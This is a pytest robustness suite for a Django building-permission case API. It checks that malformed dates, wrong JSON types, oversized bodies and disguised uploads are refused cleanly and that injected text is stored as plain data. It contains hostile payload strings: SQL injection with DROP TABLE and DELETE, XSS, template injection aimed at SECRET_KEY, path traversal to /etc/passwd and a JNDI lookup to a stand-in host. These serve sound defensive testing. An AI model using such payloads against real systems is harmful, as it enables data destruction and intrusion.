"""Bad input: malformed and impossible dates, events out of order or not allowed at the stage,
future dates, huge and wrong-type uploads, unknown procedures, wrong JSON types, and injection
attempts in every text field. Each gets a clear application/problem+json answer (never a 500), and a
refused request changes nothing in the database."""

from __future__ import annotations

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from robustness_kit import PROBLEM, case_state, open_case, table_counts

pytestmark = pytest.mark.django_db


def refused(r, status=None, code=None):
    assert r.status_code != 500, r.content
    assert 400 <= r.status_code < 500, (r.status_code, r.content[:300])
    if status is not None:
        assert r.status_code == status, (r.status_code, r.content[:300])
    assert r["Content-Type"] == PROBLEM, r["Content-Type"]
    body = r.json()
    assert body["status"] == r.status_code and body["detail"] and body["title"] and body["code"]
    if code is not None:
        assert body["code"] == code, body
    return body


@pytest.fixture
def case(api):
    return open_case(api)


@pytest.fixture
def unchanged(db):
    """Assert, after the test's requests, that the database holds what it held before them."""
    class Snap:
        def take(self):
            self.counts, self.cases = table_counts(), case_state()

        def check(self):
            assert table_counts() == self.counts
            assert case_state() == self.cases
    return Snap()


BAD_DATES = ["2026-13-01", "2026-02-30", "01/05/2026", "5 January 2026", "", " ", "tomorrow", "2026-1-5x",
             "9999-99-99", "2026-01-05T25:00", "2026-01-05T10:61", "0000-00-00", "२०२६-०१-०५",
             "2026-01-05'; DROP TABLE records_case;--"]


@pytest.mark.parametrize("on", BAD_DATES)
def test_malformed_dates_when_opening(api, world, unchanged, on):
    unchanged.take()
    r = api.post("applicant", "/api/bodies/ga-taleigao/cases",
                 {"procedure": "building_permission", "event": {"type": "application_received", "on": on}})
    body = refused(r, 422)
    assert "YYYY-MM-DD" in body["detail"]
    unchanged.check()


@pytest.mark.parametrize("on", BAD_DATES[:6])
def test_malformed_dates_on_an_action(api, case, unchanged, on):
    unchanged.take()
    r = api.post("secretary", f"/api/cases/{case['id']}/actions",
                 {"type": "observations_dispatched", "on": on, "data": {"observations": "x"}, "version": 1})
    refused(r, 422)
    unchanged.check()


def test_future_and_implausible_dates(api, case, unchanged):
    unchanged.take()
    body = refused(api.post("secretary", f"/api/cases/{case['id']}/actions",
                            {"type": "permission_granted", "on": "2026-01-11", "version": 1}), 422, "future_date")
    assert "future" in body["detail"]
    refused(api.post("applicant", "/api/bodies/ga-taleigao/cases",
                     {"procedure": "building_permission",
                      "event": {"type": "application_received", "on": "2027-01-01"}}), 422, "future_date")
    refused(api.post("applicant", "/api/bodies/ga-taleigao/cases",
                     {"procedure": "building_permission",
                      "event": {"type": "application_received", "on": "1850-01-01"}}), 422, "bad_date")
    unchanged.check()


def test_event_before_the_application_is_refused_with_the_section(api, case, unchanged):
    unchanged.take()
    r = api.post("secretary", f"/api/cases/{case['id']}/actions",
                 {"type": "permission_granted", "on": "2026-01-02", "version": 1})
    body = refused(r, 422)
    assert body["code"] in ("out_of_order", "not_allowed"), body
    unchanged.check()


def test_action_the_law_does_not_allow_at_this_stage(api, case, unchanged):
    unchanged.take()
    # an intimation after a deemed grant (s.66(2A)) while the application is still pending
    body = refused(api.post("applicant", f"/api/cases/{case['id']}/actions",
                            {"type": "intimation_given", "on": "2026-01-09", "data": {"fee_paid": 100},
                             "version": 1}), 422)
    assert body["code"] == "not_allowed" and body.get("cites"), body
    # an appeal to the Director (s.66(7)) before any order
    refused(api.post("applicant", f"/api/cases/{case['id']}/actions",
                     {"type": "appeal_to_director", "on": "2026-01-09", "version": 1}), 422)
    unchanged.check()


def test_unknown_procedures_and_events(api, case, unchanged):
    unchanged.take()
    body = refused(api.post("clerk", "/api/bodies/ga-taleigao/cases",
                            {"procedure": "time_machine_licence",
                             "event": {"type": "application_received", "on": "2026-01-05"}}), 404,
                   "unknown_procedure")
    assert "building_permission" in body["detail"]          # says what is offered
    refused(api.post("clerk", "/api/bodies/ga-taleigao/cases",
                     {"procedure": "building_permission",
                      "event": {"type": "permission_granted", "on": "2026-01-05"}}), 422, "not_an_opening_event")
    refused(api.post("secretary", f"/api/cases/{case['id']}/actions",
                     {"type": "teleported", "on": "2026-01-08", "version": 1}), 422, "unknown_event")
    refused(api.post("clerk", "/api/bodies/no-such-body/cases",
                     {"procedure": "building_permission",
                      "event": {"type": "application_received", "on": "2026-01-05"}}), 404)
    refused(api.get("secretary", "/api/cases/999999"), 404)
    unchanged.check()


WRONG_TYPES = [
    {"type": "observations_dispatched", "on": "2026-01-07", "version": "one"},
    {"type": "observations_dispatched", "on": "2026-01-07"},
    {"type": 12, "on": "2026-01-07", "version": 1},
    {"type": "observations_dispatched", "on": 20260107, "version": 1},
    {"type": "observations_dispatched", "on": "2026-01-07", "version": 1, "data": ["a", "list"]},
    {"type": "observations_dispatched", "on": "2026-01-07", "version": 1, "data": "text"},
    {"type": "observations_dispatched", "on": "2026-01-07", "version": 1, "data": {"observations": {"x": 1}}},
    {"type": "observations_dispatched", "on": "2026-01-07", "version": -1},
    {"type": "observations_dispatched", "on": "2026-01-07", "version": 10**30},
    [],
    "just a string",
]


@pytest.mark.parametrize("payload", WRONG_TYPES, ids=range(len(WRONG_TYPES)))
def test_wrong_json_types(api, case, unchanged, payload):
    unchanged.take()
    refused(api.post("secretary", f"/api/cases/{case['id']}/actions", payload))
    unchanged.check()


def test_malformed_json_and_oversized_bodies(api, case, client, world, unchanged):
    unchanged.take()
    auth = {"HTTP_AUTHORIZATION": f"Bearer {world['tokens']['secretary']}"}
    for raw in (b"{", b'{"type": "x", "on": ', b"\xff\xfe\x00", b"null", b"[1,2"):
        refused(client.post(f"/api/cases/{case['id']}/actions", raw, content_type="application/json", **auth))
    refused(client.post(f"/api/cases/{case['id']}/actions", b"type=x", content_type="text/plain", **auth))
    unchanged.check()


def test_request_body_over_the_limit_is_refused_clearly(api, case, client, world, unchanged, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 64 * 1024
    unchanged.take()
    auth = {"HTTP_AUTHORIZATION": f"Bearer {world['tokens']['secretary']}"}
    big = json.dumps({"type": "observations_dispatched", "on": "2026-01-07", "version": 1,
                      "data": {"observations": "x" * 200_000}})
    body = refused(client.post(f"/api/cases/{case['id']}/actions", big, content_type="application/json", **auth),
                   413)
    assert "limit" in body["detail"]
    unchanged.check()


PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def upload(api, who, case_id, name, data, ctype, kind="plan"):
    return api.post(who, f"/api/cases/{case_id}/documents",
                    {"__multipart__": True, "kind": kind, "title": "t",
                     "file": SimpleUploadedFile(name, data, content_type=ctype)})


def test_huge_and_wrong_type_uploads(api, case, unchanged, settings):
    settings.ADHINIYAM_MAX_UPLOAD_BYTES = 4096
    unchanged.take()
    body = refused(upload(api, "applicant", case["id"], "plan.pdf", PDF + b"0" * 5000, "application/pdf"), 422,
                   "file_too_large")
    assert "MB" in body["detail"]
    refused(upload(api, "applicant", case["id"], "plan.pdf", b"MZ\x90\x00 an exe named pdf", "application/pdf"),
            422, "file_type_not_accepted")
    refused(upload(api, "applicant", case["id"], "p.png", b"<html><script>alert(1)</script>", "image/png"), 422,
            "file_type_not_accepted")
    refused(upload(api, "applicant", case["id"], "e.pdf", b"", "application/pdf"), 422, "empty_file")
    # the kinds are an enum of the schema, which refuses any other (field `kind`)
    r = upload(api, "applicant", case["id"], "p.pdf", PDF, "application/pdf", kind="'; DROP TABLE x")
    refused(r, 422, "invalid_request")
    assert [e["field"] for e in r.json()["errors"]] == ["kind"]
    refused(api.post("applicant", f"/api/cases/{case['id']}/documents", {"__multipart__": True, "kind": "plan"}),
            422)
    unchanged.check()
    ok = upload(api, "applicant", case["id"], "../../../etc/passwd.pdf", PDF, "application/pdf")
    assert ok.status_code == 201, ok.content
    from adhiniyam.records.models import Document
    doc = Document.objects.get(pk=ok.json()["id"])
    assert ".." not in doc.file.name and doc.file.name.endswith(".pdf")     # stored under its hash, not its name


INJECTIONS = [
    "'; DROP TABLE records_case; --",
    "\" OR 1=1 --",
    "<script>alert('x')</script>",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "${jndi:ldap://example.invalid/a}",
    "Robert'); DELETE FROM records_caseevent;--",
    "नमस्ते <b>&amp;</b>",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_in_every_text_field_is_stored_as_text(api, world, text):
    """Text is data: stored byte for byte, given back as JSON text, never run as SQL or a template."""
    r = api.post("clerk", "/api/bodies/ga-taleigao/cases", {
        "procedure": "building_permission", "title": text,
        "event": {"type": "application_received", "on": "2026-01-05", "data": {"complete": True}},
        "applicant": {"name": text, "name_local": text, "phone": text[:20], "address": text},
        "property": {"address": text, "survey_number": text[:60], "ward": text[:60]},
    })
    assert r.status_code == 201, r.content
    case = r.json()
    r = api.post("secretary", f"/api/cases/{case['id']}/actions",
                 {"type": "observations_dispatched", "on": "2026-01-07", "data": {"observations": text},
                  "version": case["version"]})
    assert r.status_code == 201, r.content
    from adhiniyam.records.models import Case, CaseEvent, Person, Property
    stored = Case.objects.get(pk=case["id"])
    assert stored.title == text and stored.applicant.name == text
    assert Property.objects.get(pk=stored.property_id).address == text
    assert CaseEvent.objects.get(case=stored, seq=2).data["observations"] == text
    assert api.get("secretary", f"/api/cases/{case['id']}").json()["title"] == text
    assert Person.objects.filter(name=text).count() == 1
    # the filters and search take the text as a value, not as code
    for url, params in (("/api/bodies/ga-taleigao/people", {"q": text}), ("/api/cases", {"status": text}),
                        ("/api/cases", {"procedure": text}), ("/api/bodies/ga-taleigao/cases", {"status": text})):
        r = api.get("secretary", url, **params)
        assert r.status_code == 200, (url, r.content)
    assert api.get("secretary", "/api/bodies/ga-taleigao/people", q=text).json()[0]["name"] == text
    from adhiniyam.records.audit import verify
    assert all(broken is None for _b, _n, broken in verify())


KNOWN_UNSTORABLE: dict = {}   # none at present


@pytest.mark.parametrize("field", ["title", "applicant.name", "property.address", "event.data.observations",
                                   "action.data.observations"])
@pytest.mark.parametrize("bad", ["nul \x00 byte", "x" * 100_000], ids=["nul", "overlong"])
def test_unstorable_text_is_refused_clearly(api, world, unchanged, field, bad, request):
    """A NUL byte (PostgreSQL cannot store one in text) or text far over a column's length: 422, nothing kept."""
    if (field, bad[:3]) in KNOWN_UNSTORABLE:
        request.applymarker(pytest.mark.xfail(strict=True, reason=KNOWN_UNSTORABLE[(field, bad[:3])]))
    case = open_case(api, "clerk")
    unchanged.take()
    payload = {"procedure": "building_permission", "title": "t",
               "event": {"type": "application_received", "on": "2026-01-05", "data": {"complete": True}},
               "applicant": {"name": "A"}, "property": {"address": "a"}}
    if field == "action.data.observations":
        r = api.post("secretary", f"/api/cases/{case['id']}/actions",
                     {"type": "observations_dispatched", "on": "2026-01-07", "data": {"observations": bad},
                      "version": case["version"]})
    else:
        target = payload
        *path, last = field.split(".")
        for p in path:
            target = target[p]
        target[last] = bad
        r = api.post("clerk", "/api/bodies/ga-taleigao/cases", payload)
    if r.status_code == 201 and "\x00" not in bad and field.endswith("observations"):
        return          # free text in event data has no column limit; a long observation is lawful
    refused(r, 422)
    unchanged.check()
